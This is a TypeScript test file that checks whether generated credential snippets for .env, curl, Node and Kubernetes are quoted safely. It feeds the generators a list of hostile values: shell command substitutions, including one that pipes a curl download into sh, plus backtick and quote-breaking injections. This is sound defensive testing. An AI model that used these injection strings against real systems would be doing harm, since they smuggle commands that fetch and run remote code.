import { execFile } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { curlSnippet, envSnippet, kubernetesSnippet, nodeSnippet, type SnippetInput } from "./snippets";

const run = promisify(execFile);
/** A clean environment: no TESSERA_* from the test run leaks into what the snippet reads. */
const bareEnv = { PATH: process.env.PATH, HOME: "/nonexistent" } as unknown as NodeJS.ProcessEnv;

/**
 * Each snippet is evaluated by the program it is written for (bash and sh
 * for .env and curl, node for the Node snippet, a YAML parser for the
 * Kubernetes Secret) with hostile values: nothing may run, and every value
 * must come back exactly as it went in. A command substitution that runs
 * creates the file `pwned` in the working directory.
 */
const HOSTILE = [
  "https://x.example/$(curl${IFS}evil|sh)",
  "https://x.example/$(touch pwned)",
  "https://x.example/`touch pwned`",
  "https://x.example/'$(touch pwned)'",
  `https://x.example/"; touch pwned; echo "`,
  "back\\slash\\'quote\\",
  "new\nline; touch pwned",
  "~/home:~root",
  "\u2028\u0085\u007f😀",
];

const dir = mkdtempSync(join(tmpdir(), "tessera-snippets-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const input = (hostile: string): SnippetInput => ({
  tokenUrl: `https://tessera.example/oauth/token?${hostile}`,
  clientId: `sa_${hostile}`,
  clientSecret: `tss_${hostile}`,
  audiences: [hostile, "billing-api.example.com"],
  accountName: hostile,
});

function fileWith(name: string, text: string) {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

async function inShell(shell: "bash" | "sh", script: string, file: string) {
  try {
    const { stdout } = await run(shell, ["-c", script, "snippet", file], { cwd: dir, env: bareEnv });
    expect(existsSync(join(dir, "pwned")), "a command in a value ran").toBe(false);
    return stdout.split("\0").slice(0, -1);
  } finally {
    rmSync(join(dir, "pwned"), { force: true });
  }
}

describe.each(HOSTILE)("snippets quote %j for their language", (hostile) => {
  const s = input(hostile);

  it.each(["bash", "sh"] as const)(".env sourced by %s runs nothing and round-trips every value", async (shell) => {
    const file = fileWith("tessera.env", envSnippet(s));
    const values = await inShell(
      shell,
      'set -a; . "$1"; printf "%s\\0" "$TESSERA_TOKEN_URL" "$TESSERA_CLIENT_ID" "$TESSERA_CLIENT_SECRET" "$TESSERA_AUDIENCE"',
      file,
    );
    expect(values).toEqual([s.tokenUrl, s.clientId, s.clientSecret, s.audiences.join(" ")]);
  });

  it.each(["bash", "sh"] as const)("curl pasted into %s runs nothing and passes every value as one argument", async (shell) => {
    const file = fileWith("token.sh", curlSnippet(s));
    const args = await inShell(shell, 'curl() { printf "%s\\0" "$@"; }; . "$1"', file);
    expect(args.slice(0, 6)).toEqual(["-sS", "-X", "POST", s.tokenUrl, "-u", `${s.clientId}:${s.clientSecret}`]);
    expect(args.slice(6)).toEqual(["-d", "grant_type=client_credentials", "--data-urlencode", `audience=${s.audiences.join(" ")}`]);
  });

  it("the Node snippet is valid JavaScript holding every value as a string", async () => {
    const file = fileWith("token.mjs", `${nodeSnippet(s)}\nprocess.stdout.write(JSON.stringify([TOKEN_URL, CLIENT_ID, AUDIENCE]));\n`);
    const { stdout } = await run(process.execPath, [file], { cwd: dir, env: bareEnv });
    expect(JSON.parse(stdout)).toEqual([s.tokenUrl, s.clientId, s.audiences.join(" ")]);
  });

  it("the Kubernetes Secret parses as YAML with every value intact", () => {
    const doc = parseYaml(kubernetesSnippet(s)) as { metadata: { name: string }; stringData: Record<string, string> };
    expect(doc.stringData).toEqual({
      TESSERA_TOKEN_URL: s.tokenUrl,
      TESSERA_CLIENT_ID: s.clientId,
      TESSERA_CLIENT_SECRET: s.clientSecret,
      TESSERA_AUDIENCE: s.audiences.join(" "),
    });
    expect(doc.metadata.name).toMatch(/^[a-z0-9]([a-z0-9-]*[a-z0-9])?$/);
  });
});

it("a single URL-safe audience is still sent as a plain -d value", async () => {
  const s = { ...input("x"), tokenUrl: "https://tessera.example/oauth/token", audiences: ["https://billing.example.com/a:~root"] };
  const file = fileWith("plain.sh", curlSnippet(s));
  const args = await inShell("bash", 'curl() { printf "%s\\0" "$@"; }; . "$1"', file);
  expect(args.slice(-2)).toEqual(["-d", "audience=https://billing.example.com/a:~root"]);
});
